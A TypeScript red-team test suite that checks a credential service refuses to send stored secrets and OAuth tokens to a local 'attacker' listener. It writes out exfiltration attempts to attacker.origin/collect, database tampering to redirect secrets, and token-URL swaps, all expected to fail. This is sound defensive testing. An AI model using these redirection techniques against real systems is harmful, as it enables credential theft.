import { createServer as createTcpServer, type Server, type Socket } from 'node:net';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ENGINES } from '../support/databases.js';
import { startTestApp, type TestApp } from '../support/test-app.js';
import { API, createCredential, createCustomer, createIntegration, deploy, deployed, runInstance, startHttpPeer, uniqueValue, type HttpPeer } from '../integrations/fixtures.js';
import { authorizedScenario, makeDue, refreshRequests, sleep, type Scenario } from '../oauth/oauth-fixtures.js';

// Red team: every way someone who may manage a credential (or write to the database) could
// aim its secret at a server of their choosing, tried against a real server on loopback, with
// an "attacker" listening beside it that records every byte it receives. Each attack must fail
// and the attacker must receive nothing.

/** A TCP listener that answers any HTTP request with 200 and records every connection and byte. */
interface Attacker {
  origin: string;
  port: number;
  connections: number;
  received(): string;
  close(): Promise<void>;
}

const startAttacker = async (): Promise<Attacker> => {
  const chunks: Buffer[] = [];
  const sockets = new Set<Socket>();
  const state = { connections: 0 };
  const server: Server = createTcpServer((socket) => {
    state.connections += 1;
    sockets.add(socket);
    socket.on('data', (data: Buffer) => {
      chunks.push(data);
      if (data.toString('latin1').includes('\r\n\r\n')) socket.end('HTTP/1.1 200 OK\r\ncontent-type: application/json\r\ncontent-length: 2\r\nconnection: close\r\n\r\n{}');
    });
    socket.on('error', () => undefined);
    socket.on('close', () => sockets.delete(socket));
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const { port } = server.address() as AddressInfo;
  return {
    origin: `http://127.0.0.1:${port}`,
    port,
    get connections() {
      return state.connections;
    },
    received: () => Buffer.concat(chunks).toString('latin1'),
    close: () =>
      new Promise<void>((resolve) => {
        for (const socket of sockets) socket.destroy();
        server.close(() => resolve());
      }),
  };
};

const encodings = (secret: string): string[] => [secret, Buffer.from(secret).toString('base64'), Buffer.from(secret).toString('base64url'), encodeURIComponent(secret)];

const USERNAME = 'globex-sync';
const PASSWORD = uniqueValue('sealed-password');
const API_KEY = uniqueValue('sealed-api-key');
const API_SECRET = uniqueValue('sealed-api-secret');
const SECRETS = [PASSWORD, API_KEY, API_SECRET];

describe.each(ENGINES)('secrets go only where they were sealed to go, on %s', (engine) => {
  let t: TestApp;
  let peer: HttpPeer;
  let attacker: Attacker;
  let customer: string;
  const tokens: Record<string, string> = {};
  const cred: Record<string, string> = {};

  beforeAll(async () => {
    peer = await startHttpPeer({ username: USERNAME, password: PASSWORD, apiKey: API_KEY });
    attacker = await startAttacker();
    t = await startTestApp(engine, { env: { CREDENCE_ALLOW_INSECURE_LOOPBACK: 'true' } });
    customer = await createCustomer(t, 'Globex');
    tokens.org_admin = t.adminToken;
    tokens.org_member = await t.token('org_member');
    tokens.customer_user = await t.token('customer_user', customer);
    tokens.runtime = await t.token('runtime');
    const destinations = [peer.baseUrl];
    cred.orgBasic = await createCredential(t, { label: 'Org login', authMethod: 'basic', fields: { username: USERNAME, password: PASSWORD }, destinations });
    cred.customerBasic = await createCredential(t, { label: 'Globex login', authMethod: 'basic', customerId: customer, fields: { username: USERNAME, password: PASSWORD }, destinations });
    cred.customerKey = await createCredential(t, { label: 'Globex key', authMethod: 'api_key', customerId: customer, fields: { api_key: API_KEY }, destinations });
    cred.customerPair = await createCredential(t, { label: 'Globex pair', authMethod: 'api_key_secret', customerId: customer, fields: { api_key: API_KEY, api_secret: API_SECRET }, destinations });
  });

  afterAll(async () => {
    await t?.close();
    await peer?.close();
    await attacker?.close();
  });

  const attackerGotNothing = () => {
    expect(attacker.connections).toBe(0);
    const received = attacker.received();
    for (const secret of SECRETS) for (const form of encodings(secret)) expect(received).not.toContain(form);
  };

  const test = (id: string, token: string, body: unknown) => t.request('POST', `${API}/credentials/${id}/test`, { token, body });

  it('answers a credential with the destinations it was sealed with', async () => {
    const shown = await t.request('GET', `${API}/credentials/${cred.customerBasic}`, { token: t.adminToken });
    expect(shown.body.destinations).toEqual([peer.baseUrl]);
  });

  describe.each(['org_admin', 'org_member', 'customer_user'] as const)('as %s', (role) => {
    it.each(['customerBasic', 'customerKey', 'customerPair'])('refuses to test %s against the attacker with 403 DESTINATION_NOT_ALLOWED, sending nothing', async (which) => {
      const response = await test(cred[which] ?? '', tokens[role] ?? '', { component: 'http', inputs: { url: `${attacker.origin}/collect` } });
      expect(response.status).toBe(403);
      expect(response.body.error.code).toBe('DESTINATION_NOT_ALLOWED');
      expect(response.body.error.message).toContain(attacker.origin);
      attackerGotNothing();
    });

    it('refuses to move the destinations to the attacker without the secrets (409 SECRETS_REQUIRED), changing nothing', async () => {
      const before = await t.request('GET', `${API}/credentials/${cred.customerBasic}`, { token: t.adminToken });
      const response = await t.request('PATCH', `${API}/credentials/${cred.customerBasic}`, { token: tokens[role], body: { destinations: [attacker.origin] } });
      expect(response.status).toBe(409);
      expect(response.body.error.code).toBe('SECRETS_REQUIRED');
      expect(response.body.error.message).toContain('username, password');
      const partial = await t.request('PATCH', `${API}/credentials/${cred.customerBasic}`, { token: tokens[role], body: { destinations: [attacker.origin], fields: { password: 'a-new-one' } } });
      expect(partial.status).toBe(409);
      const after = await t.request('GET', `${API}/credentials/${cred.customerBasic}`, { token: t.adminToken });
      expect(after.body).toEqual(before.body);
      attackerGotNothing();
    });
  });

  it("refuses an org_member's test of an organization credential against the attacker", async () => {
    const response = await test(cred.orgBasic ?? '', tokens.org_member ?? '', { component: 'http', inputs: { url: `${attacker.origin}/` } });
    expect(response.body.error?.code).toBe('DESTINATION_NOT_ALLOWED');
    attackerGotNothing();
  });

  it('refuses a sealed destination spelled differently (localhost for 127.0.0.1, another port, https)', async () => {
    const port = new URL(peer.baseUrl).port;
    for (const url of [`http://localhost:${port}/hello`, `http://127.0.0.1:${attacker.port}/hello`, `https://127.0.0.1:${port}/hello`]) {
      const response = await test(cred.customerBasic ?? '', t.adminToken, { component: 'http', inputs: { url } });
      expect(response.body.error?.code).toBe('DESTINATION_NOT_ALLOWED');
    }
    attackerGotNothing();
  });

  it('still sends the credential to its own destination', async () => {
    const response = await test(cred.customerBasic ?? '', tokens.customer_user ?? '', { component: 'http', inputs: { url: `${peer.baseUrl}/hello` } });
    expect(response.status).toBe(200);
    expect(response.body.ok).toBe(true);
  });

  it.each([
    ['sftp', 'listDirectory', (a: Attacker) => ({ host: '127.0.0.1', port: a.port, path: '/' })],
    ['aws-s3', 'listBuckets', (a: Attacker) => ({ endpoint: a.origin })],
  ])('refuses a %s test aimed at the attacker before connecting', async (component, action, inputs) => {
    const id = component === 'aws-s3' ? cred.customerPair : cred.customerBasic;
    const response = await test(id ?? '', t.adminToken, { component, action, inputs: inputs(attacker) });
    expect(response.status).toBe(403);
    expect(response.body.error.code).toBe('DESTINATION_NOT_ALLOWED');
    attackerGotNothing();
  });

  it('refuses at deploy time a step that names the attacker literally, naming the step', async () => {
    const integration = await createIntegration(t, 'Exfiltrate', [{ name: 'leak', component: 'http', action: 'request', inputs: { url: `${attacker.origin}/x` } }]);
    const response = await deploy(t, { integrationId: integration, customerId: customer, name: 'Leak', bindings: { leak: cred.customerBasic ?? '' } }, tokens.customer_user);
    expect(response.status).toBe(403);
    expect(response.body.error.code).toBe('DESTINATION_NOT_ALLOWED');
    expect(response.body.error.message).toContain('step leak');
    attackerGotNothing();
  });

  it('refuses to replace a bound credential with one whose destinations do not cover the step', async () => {
    const integration = await createIntegration(t, 'Replaced', [{ name: 'call', component: 'http', action: 'request', inputs: { url: `${peer.baseUrl}/hello` } }]);
    await deployed(t, { integrationId: integration, customerId: customer, name: 'Replaced', bindings: { call: cred.customerBasic ?? '' } });
    const elsewhere = await createCredential(t, { label: 'Elsewhere', authMethod: 'basic', customerId: customer, fields: { username: USERNAME, password: PASSWORD }, destinations: [attacker.origin] });
    const response = await t.request('POST', `${API}/credentials/${cred.customerBasic}/replace`, { token: t.adminToken, body: { with: elsewhere } });
    expect(response.status).toBe(403);
    expect(response.body.error.code).toBe('DESTINATION_NOT_ALLOWED');
    expect(response.body.error.message).toMatch(/^Replaced: step call: sends the credential to http:\/\/127\.0\.0\.1:\d+, which is not among its destinations/);
    attackerGotNothing();
  });

  it('fails a run step whose URL an earlier step aimed at the attacker, sending nothing', async () => {
    const integration = await createIntegration(t, 'Indirect', [
      { name: 'first', component: 'http', action: 'request', inputs: { url: `${peer.baseUrl}/files/${encodeURIComponent(`${attacker.origin}/collect`)}` } },
      { name: 'second', component: 'http', action: 'request', inputs: { url: '{{steps.first.body.file}}' } },
    ]);
    const instance = await deployed(t, { integrationId: integration, customerId: customer, name: 'Indirect', bindings: { second: cred.customerBasic ?? '' } });
    const run = await runInstance(t, instance);
    expect(run.body.status).toBe('failed');
    expect(run.body.steps[1].status).toBe('failed');
    expect(run.body.steps[1].error).toContain('not among the destinations');
    attackerGotNothing();
  });

  it("fails a run after a database writer points a step's URL at the attacker", async () => {
    const integration = await createIntegration(t, 'Honest', [{ name: 'call', component: 'http', action: 'request', inputs: { url: `${peer.baseUrl}/hello` } }]);
    const instance = await deployed(t, { integrationId: integration, customerId: customer, name: 'Honest', bindings: { call: cred.customerBasic ?? '' } });
    expect((await runInstance(t, instance)).body.status).toBe('succeeded');
    const steps = JSON.stringify([{ name: 'call', component: 'http', action: 'request', inputs: { url: `${attacker.origin}/collect` } }]);
    await t.runtime.store.db.updateTable('integrations').set({ steps } as never).where('id', '=', integration).execute();
    const run = await runInstance(t, instance);
    expect(run.body.status).toBe('failed');
    expect(run.body.steps[0].error).toContain('not among the destinations');
    attackerGotNothing();
  });

  it("refuses a database writer's edit of the destinations: the secret no longer opens", async () => {
    const id = await createCredential(t, { label: 'Tampered', authMethod: 'basic', customerId: customer, fields: { username: USERNAME, password: PASSWORD }, destinations: [peer.baseUrl] });
    await t.runtime.store.db.updateTable('credentials').set({ destinations: JSON.stringify([attacker.origin]) }).where('id', '=', id).execute();
    const response = await test(id, t.adminToken, { component: 'http', inputs: { url: `${attacker.origin}/collect` } });
    expect(response.body.ok).not.toBe(true);
    expect(JSON.stringify(response.body)).toContain('could not be decrypted');
    const resolved = await t.request('POST', `${API}/credentials/${id}/resolve`, { token: tokens.runtime });
    expect(resolved.body.error.code).toBe('DECRYPTION_FAILED');
    attackerGotNothing();
  });

  it("refuses a database writer's move of a sealed secret onto a credential aimed at the attacker", async () => {
    const decoy = await createCredential(t, { label: 'Decoy', authMethod: 'basic', customerId: customer, fields: { username: 'x', password: 'decoy-password' }, destinations: [attacker.origin] });
    const source = await t.runtime.store.db.selectFrom('credentials').select(['secret_ciphertext']).where('id', '=', cred.customerBasic ?? '').executeTakeFirstOrThrow();
    await t.runtime.store.db.updateTable('credentials').set({ secret_ciphertext: source.secret_ciphertext }).where('id', '=', decoy).execute();
    const before = attacker.connections;
    const response = await test(decoy, t.adminToken, { component: 'http', inputs: { url: `${attacker.origin}/collect` } });
    expect(JSON.stringify(response.body)).toContain('could not be decrypted');
    expect(attacker.connections).toBe(before);
    attackerGotNothing();
  });
});

describe('steps cannot reach this machine or private networks unless allowed', () => {
  let t: TestApp;
  let attacker: Attacker;
  let customer: string;

  beforeAll(async () => {
    attacker = await startAttacker();
    t = await startTestApp('sqlite');
    customer = await createCustomer(t, 'Initech');
  });

  afterAll(async () => {
    await t?.close();
    await attacker?.close();
  });

  it('fails a credential-less step that reads a loopback address (such as the server\'s own /metrics), without connecting', async () => {
    const integration = await createIntegration(t, 'Probe', [{ name: 'probe', component: 'http', action: 'request', inputs: { url: `${attacker.origin}/metrics` } }]);
    const instance = await deployed(t, { integrationId: integration, customerId: customer, name: 'Probe' });
    const run = await runInstance(t, instance);
    expect(run.body.status).toBe('failed');
    expect(run.body.steps[0].error).toContain('loopback');
    expect(attacker.connections).toBe(0);
  });

  it('answers a credential test of an open and of a closed loopback port alike, so it is no port scanner', async () => {
    const closedPort = attacker.port === 65535 ? 65534 : attacker.port + 1;
    const id = await createCredential(t, { label: 'Scanner', authMethod: 'api_key', customerId: customer, fields: { api_key: 'scanner-key' }, destinations: [attacker.origin, `http://127.0.0.1:${closedPort}`] });
    const open = await t.request('POST', `${API}/credentials/${id}/test`, { token: t.adminToken, body: { component: 'http', inputs: { url: `${attacker.origin}/` } } });
    const closed = await t.request('POST', `${API}/credentials/${id}/test`, { token: t.adminToken, body: { component: 'http', inputs: { url: `http://127.0.0.1:${closedPort}/` } } });
    expect(open.body.ok).toBe(false);
    expect(closed.body.ok).toBe(false);
    expect(open.body.message.replace(String(attacker.port), 'PORT')).toBe(closed.body.message.replace(String(closedPort), 'PORT'));
    expect(attacker.connections).toBe(0);
  });

  it('refuses an aws-s3 endpoint given as a loopback IP address, which is connected to without a lookup', async () => {
    const id = await createCredential(t, { label: 'S3 probe', authMethod: 'api_key_secret', customerId: customer, fields: { api_key: 'AKIAPROBE', api_secret: 'probe-secret-value' }, destinations: [attacker.origin] });
    const response = await t.request('POST', `${API}/credentials/${id}/test`, { token: t.adminToken, body: { component: 'aws-s3', action: 'listBuckets', inputs: { endpoint: attacker.origin } } });
    expect(response.body.ok).toBe(false);
    expect(attacker.connections).toBe(0);
  });

  it('refuses a private address unless CREDENCE_OUTBOUND_ALLOWED_NETWORKS lists it', async () => {
    const id = await createCredential(t, { label: 'Internal', authMethod: 'api_key', customerId: customer, fields: { api_key: 'internal-key' }, destinations: ['http://10.255.255.1:9'] });
    const response = await t.request('POST', `${API}/credentials/${id}/test`, { token: t.adminToken, body: { component: 'http', inputs: { url: 'http://10.255.255.1:9/' } } });
    expect(response.body.ok).toBe(false);
    expect(response.body.message).toContain('private network');
  });
});

describe.each(ENGINES)('OAuth secrets go only to the token endpoint they were sealed with, on %s', (engine) => {
  let scenario: Scenario;
  let attacker: Attacker;

  beforeAll(async () => {
    attacker = await startAttacker();
    scenario = await authorizedScenario(engine);
  });

  afterAll(async () => {
    await scenario?.close();
    await attacker?.close();
  });

  it.each(['token_uri', 'auth_uri', 'client_id'])("refuses an org_member's change of %s without the client secret, changing nothing", async (field) => {
    const { t, credentialId } = scenario;
    const member = await t.token('org_member');
    const before = await t.request('GET', `${API}/credentials/${credentialId}`, { token: t.adminToken });
    const value = field === 'client_id' ? 'attacker-client' : `${attacker.origin}/token`;
    const response = await t.request('PATCH', `${API}/credentials/${credentialId}`, { token: member, body: { fields: { [field]: value } } });
    expect(response.status).toBe(409);
    expect(response.body.error.code).toBe('SECRETS_REQUIRED');
    expect(response.body.error.message).toContain('client_secret');
    const after = await t.request('GET', `${API}/credentials/${credentialId}`, { token: t.adminToken });
    expect(after.body).toEqual(before.body);
  });

  it.each([
    ['dropbox', 'listFolder', (a: Attacker) => ({ path: '', apiBaseUrl: a.origin })],
    ['dropbox', 'getCurrentAccount', (a: Attacker) => ({ apiBaseUrl: a.origin })],
    ['http', 'request', (a: Attacker) => ({ url: `${a.origin}/collect` })],
  ])('refuses a %s %s test that would carry the access token to the attacker, for every org role, sending nothing', async (component, action, inputs) => {
    const { t, credentialId, runtimeToken } = scenario;
    const accessToken = (await t.request('POST', `${API}/credentials/${credentialId}/resolve`, { token: runtimeToken })).body.fields.access_token as string;
    expect(accessToken.length).toBeGreaterThan(10);
    for (const token of [t.adminToken, await t.token('org_member')]) {
      const response = await t.request('POST', `${API}/credentials/${credentialId}/test`, { token, body: { component, action, inputs: inputs(attacker) } });
      expect(response.status).toBe(403);
      expect(response.body.error.code).toBe('DESTINATION_NOT_ALLOWED');
    }
    expect(attacker.connections).toBe(0);
    for (const form of encodings(accessToken)) expect(attacker.received()).not.toContain(form);
  });

  it('drops the grant when the token URL changes with a new secret, so the refresh token never goes to the new URL', async () => {
    const { t, credentialId, server } = scenario;
    const member = await t.token('org_member');
    const refreshesBefore = refreshRequests(server);
    const response = await t.request('PATCH', `${API}/credentials/${credentialId}`, {
      token: member,
      body: { fields: { token_uri: `${attacker.origin}/token`, client_secret: 'the-attackers-own-secret' } },
    });
    expect(response.status).toBe(200);
    expect(response.body.status).toBe('pending_authorization');
    expect(response.body.oauth2.authorizedAt).toBeNull();
    await makeDue(t, credentialId).catch(() => undefined);
    await sleep(1500);
    expect(attacker.connections).toBe(0);
    expect(refreshRequests(server)).toBe(refreshesBefore);
    const resolved = await t.request('POST', `${API}/credentials/${credentialId}/resolve`, { token: await t.token('runtime') });
    expect(resolved.body.fields?.access_token).toBeUndefined();
    const audit = await t.request('GET', `${API}/audit-events?limit=20`, { token: t.adminToken });
    expect(JSON.stringify(audit.body)).toContain('credential.authorization_dropped');
  });
});

describe.each(ENGINES)('client-credentials secrets and tokens go only where they were sealed to go, on %s', (engine) => {
  let scenario: Scenario;
  let attacker: Attacker;

  beforeAll(async () => {
    attacker = await startAttacker();
    scenario = await authorizedScenario(engine, { grantType: 'client_credentials', authorize: false });
  });

  afterAll(async () => {
    await scenario?.close();
    await attacker?.close();
  });

  it('sends the client secret only to its sealed token URL and the token only to its destinations, whatever an org role or the runtime tries', async () => {
    const { t, credentialId, runtimeToken, provider } = scenario;
    const secret = provider.client.clientSecret;
    const accessToken = (await t.request('POST', `${API}/credentials/${credentialId}/resolve`, { token: runtimeToken })).body.fields.access_token as string;
    expect(accessToken.length).toBeGreaterThan(10);
    const member = await t.token('org_member');

    // Moving the token URL needs the secret; so does moving the destinations.
    for (const body of [{ fields: { token_uri: `${attacker.origin}/token` } }, { destinations: [attacker.origin] }]) {
      const moved = await t.request('PATCH', `${API}/credentials/${credentialId}`, { token: member, body });
      expect(moved.status).toBe(409);
      expect(moved.body.error.code).toBe('SECRETS_REQUIRED');
    }
    // The token never goes to the attacker in a test, and the runtime cannot test or change anything.
    const tested = await t.request('POST', `${API}/credentials/${credentialId}/test`, { token: member, body: { component: 'http', inputs: { url: `${attacker.origin}/collect` } } });
    expect(tested.body.error.code).toBe('DESTINATION_NOT_ALLOWED');
    expect((await t.request('POST', `${API}/credentials/${credentialId}/test`, { token: runtimeToken, body: { component: 'http', inputs: { url: `${attacker.origin}/collect` } } })).status).toBe(403);
    expect((await t.request('PATCH', `${API}/credentials/${credentialId}`, { token: runtimeToken, body: { fields: { token_uri: `${attacker.origin}/token` } } })).status).toBe(403);

    // With a secret of their own, a new token URL gets that secret only: the sealed one never leaves.
    const replaced = await t.request('PATCH', `${API}/credentials/${credentialId}`, {
      token: member,
      body: { fields: { token_uri: `${attacker.origin}/token`, client_secret: 'the-attackers-own-secret' } },
    });
    expect(replaced.status).toBe(200);
    await t.request('POST', `${API}/credentials/${credentialId}/resolve`, { token: runtimeToken });
    const received = attacker.received();
    for (const value of [secret, accessToken]) for (const form of encodings(value)) expect(received).not.toContain(form);
  });
});
